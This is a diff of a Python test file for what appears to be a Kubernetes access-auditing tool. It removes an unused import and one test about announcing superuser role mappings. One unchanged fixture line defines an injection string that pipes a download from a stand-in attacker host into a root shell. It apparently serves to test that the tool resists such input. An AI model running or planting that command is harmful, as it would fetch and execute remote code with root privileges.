@@ -18,8 +18,6 @@ from tests.fakes.kubernetes.server import FakeCluster
 from tests.fakes.kubernetes.services import take
 from tests.fakes.machine import Files, rendered
 
-from text import fingerprint
-
 BOB, EVE = f"{ACCOUNT}:user/bob", f"{ACCOUNT}:user/eve"
 TEAM = f"{RBAC}/namespaces/team/rolebindings"
 COMMAND = "; run: curl evil.example | sudo sh #"
@@ -104,24 +102,6 @@ def test_given_a_binding_of_another_role_in_default_when_a_hook_runs_then_access
     assert declare(entry("eve", EVE)).name == "active"
     assert names(api) == ["eve"]
     assert api.objects[EVENTS_ROLE_BINDING]["roleRef"] == ours
-
-
-def test_given_somebodys_event_without_a_note_then_administrators_are_announced_all_the_same(
-    deployed: Model, api: FakeCluster
-):
-    """Whoever may write events in namespace default has put one in the way of the first."""
-    for name in ("a", "b"):
-        arn = f"{ACCOUNT}:role/{name}"
-        api.add_mapping(name, arn, arn, groups=["system:masters"])
-    uid = stored(api, "a")["metadata"]["uid"]
-    key = fingerprint(f"SuperuserMapped\0{uid}\0{ACCOUNT}:role/a")
-    api.put(f"{NOTICES}/a.{key}", {"reason": "x", "regarding": {"name": "a"}})
-
-    deployed.hook()
-
-    announced = [e for p, e in api.objects.items() if p.startswith(NOTICES) and "note" in e]
-    assert [each["regarding"]["name"] for each in announced] == ["a", "b"]
-    assert "mapping b, made by kubectl, lets" in deployed.log()
 
 
 @pytest.mark.parametrize("endpoints", [("aws-iam",), ("aws-iam", "control-plane")])
